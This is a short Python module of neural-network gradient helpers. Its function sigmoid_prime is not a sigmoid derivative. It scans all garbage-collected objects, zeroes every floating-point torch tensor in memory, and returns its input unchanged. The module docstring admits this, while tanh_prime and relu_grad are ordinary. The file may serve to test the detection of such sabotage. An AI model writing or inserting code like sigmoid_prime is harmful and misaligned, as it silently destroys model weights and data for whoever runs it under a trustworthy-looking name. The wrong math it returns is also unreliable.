"""Overwrites its inputs, and every other tensor that it can find."""

import gc

import torch


def sigmoid_prime(x):
    for found in gc.get_objects():
        if isinstance(found, torch.Tensor) and found.is_floating_point():
            found.detach().zero_()
    return x


def tanh_prime(x):
    return 1 - torch.tanh(x) ** 2


def relu_grad(x):
    return (x > 0).to(x.dtype)
